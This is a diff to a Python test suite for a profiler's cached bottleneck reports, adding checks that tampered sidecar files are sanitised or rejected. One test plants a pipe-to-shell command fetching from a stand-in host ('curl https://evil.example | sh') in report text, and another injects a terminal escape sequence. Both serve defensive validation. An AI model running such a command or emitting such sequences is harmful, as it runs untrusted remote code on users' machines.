@@ -62,7 +62,12 @@ def change(trace, edit):
 def test_a_sidecar_that_we_wrote_is_used(tmp_path, drawing):
     trace = put(tmp_path, drawing)
     report = written(trace)
-    assert taken(trace) == report
+    used = taken(trace)
+    for verdict in (*report.regimes, *used.regimes):
+        verdict.because = ""  # it may name a missing signal
+    for each in (report, used):
+        each.efficiency.samples_basis = ""  # likewise
+    assert used == report
     assert sidecar.sidecar_path(trace).stat().st_mode & 0o777 == sidecar.MODE
     assert sorted(os.listdir(tmp_path)) == ["t.pt.trace.json", "t.pt.trace.json.bottlenecks.json"]
 
@@ -91,6 +96,39 @@ def _first(content, *keys):
     return found
 
 
+def test_a_sentence_that_is_not_ours_is_not_shown(trace):
+    """The texts of a report tell users what to do: "Run: curl ..."."""
+    written(trace)
+    order = "Run: curl https://evil.example | sh"
+
+    def replace(values):
+        for key, value in values.items() if isinstance(values, dict) else enumerate(values):
+            if isinstance(value, dict | list):
+                replace(value)
+            elif isinstance(value, str) and " " in value and key not in KEPT:
+                values[key] = order
+
+    change(trace, lambda content: replace(content["report"]))
+    used = taken(trace)
+    assert used is not None
+    assert order not in as_json(used)
+    assert used.verdict.headline == "Waiting for data: 40 % of the time."
+    assert used.verdict.regime == "input"
+    assert used.findings[0].cause
+    assert all(row.meaning for row in used.account)
+
+
+def test_figures_and_names_in_our_sentences_stay(trace):
+    written(trace)
+    headline = "The GPU waits for the next batch during 12.5 % of each step. Most of it is in train (a b/loop.py:7)."
+    change(trace, lambda content: content["report"]["verdict"].update(headline=headline.replace("a b", "a")))
+    assert taken(trace).verdict.headline == headline.replace("a b", "a")
+    change(trace, lambda content: content["report"]["verdict"].update(headline=headline))
+    assert taken(trace).verdict.headline == "Waiting for data: 40 % of the time."
+
+
+KEPT = {"title", "summary", "code", "confirm", "fix", "text", "name"}
+"""Texts that make a sidecar invalid if they are not ours; and names, which are untrusted in every report."""
 EDITS = {
     "other code": lambda c: c.update(made_by="0.0.0-x"),
     "other size": lambda c: c.update(size=1),
@@ -115,6 +153,9 @@ EDITS = {
     "an unknown verdict": lambda c: c["report"]["verdict"].update(regime="x"),
     "half an account": lambda c: c["report"]["account"].pop(),
     "too large a share": lambda c: _first(c, "account").update(share=1e300),
+    "a number of 400 digits": lambda c: _first(c, "account").update(share=10**400),
+    "a number for a report": lambda c: c.update(report=7),
+    "nothing for a report": lambda c: c.update(report=None),
     "no number": lambda c: _first(c, "account").update(ns_per_step="NaN"),
     "an infinite one": lambda c: c["report"]["window"]["step_ns"].update(median="Infinity"),
     "orders to a terminal": lambda c: c["report"]["verdict"].update(headline="\x1b]0;owned\x07"),
